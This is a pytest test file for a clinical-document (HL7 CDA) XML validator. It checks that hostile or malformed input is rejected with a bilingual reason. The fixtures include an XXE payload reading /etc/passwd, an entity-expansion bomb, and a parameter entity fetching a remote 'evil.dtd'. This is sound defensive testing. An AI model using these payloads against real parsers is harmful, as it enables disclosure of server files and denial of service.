"""Layer 1: hostile or broken input gives ABORTED with a reason, never a crash, a hang or a read outside the input."""

from __future__ import annotations

import time

import pytest

from harness.config.context import ValidationContext
from harness.config.packs import PackRegistry
from harness.core.verdicts import ArtefactVerdict
from harness.validation.dispatch import validate_bytes
from harness.validation.validators import cda as cda_validator

from cda_mutants import FIXTURES

CONTEXT = ValidationContext(registry=PackRegistry.load())
GOOD = (FIXTURES / "vsm-2023.xml").read_bytes()

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE ClinicalDocument [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<ClinicalDocument xmlns="urn:hl7-org:v3"><title>&xxe;</title></ClinicalDocument>"""
BOMB = (b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
        + b"".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'.encode() for i in range(1, 10))
        + b']>\n<ClinicalDocument xmlns="urn:hl7-org:v3"><title>&lol9;</title></ClinicalDocument>')
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<ClinicalDocument xmlns="urn:hl7-org:v3"/>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE ClinicalDocument SYSTEM "http://example.invalid/cda.dtd">
<ClinicalDocument xmlns="urn:hl7-org:v3"/>"""

CASES = {
    "xxe": XXE,
    "entity-bomb": BOMB,
    "parameter-entity": PARAMETER_ENTITY,
    "external-dtd": EXTERNAL_DTD,
    "binary-junk": b"\x00\x01\x02\xff\xfe urn:hl7-org:v3 <ClinicalDocument" + bytes(range(256)) * 8,
    "truncated": GOOD[: len(GOOD) // 2],
    "empty": b"",
    "not-xml": b"urn:hl7-org:v3 MSH|^~\\&|not xml",
    "bad-encoding": b'<?xml version="1.0" encoding="no-such-encoding"?><ClinicalDocument xmlns="urn:hl7-org:v3"/>',
}


@pytest.mark.parametrize("name", sorted(CASES))
def test_hostile_input_is_aborted_with_a_reason(name: str) -> None:
    started = time.monotonic()
    report = validate_bytes(CASES[name], f"{name}.xml", CONTEXT, kind="cda")
    assert time.monotonic() - started < 2
    assert report.verdict is ArtefactVerdict.ABORTED
    assert report.reason and " / " in report.reason  # French / English
    assert report.findings == []
    assert "root:" not in (report.reason or "")  # nothing of /etc/passwd


def test_truncation_reason_names_the_line() -> None:
    report = validate_bytes(CASES["truncated"], "t.xml", CONTEXT, kind="cda")
    assert "(ligne " in (report.reason or "") and "(line " in (report.reason or "")


def test_oversized_input_is_aborted() -> None:
    small = ValidationContext(registry=CONTEXT.registry, max_bytes=1000)
    report = validate_bytes(GOOD, "big.xml", small, kind="cda")
    assert report.verdict is ArtefactVerdict.ABORTED and "limit" in (report.reason or "")


def test_detection() -> None:
    assert cda_validator.detect(GOOD)
    assert cda_validator.detect((FIXTURES / "self-presenting-vsm.xml").read_bytes())
    assert cda_validator.detect(XXE)  # detected as CDA, then refused by the safe parser
    assert not cda_validator.detect(b'<?xml version="1.0"?><foo xmlns="urn:hl7-org:v3"/>')
    assert not cda_validator.detect(b'<ClinicalDocument xmlns="urn:other"/>')
    assert not cda_validator.detect(b"MSH|^~\\&|APP|FAC")
    assert not cda_validator.detect(b'<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"/>')
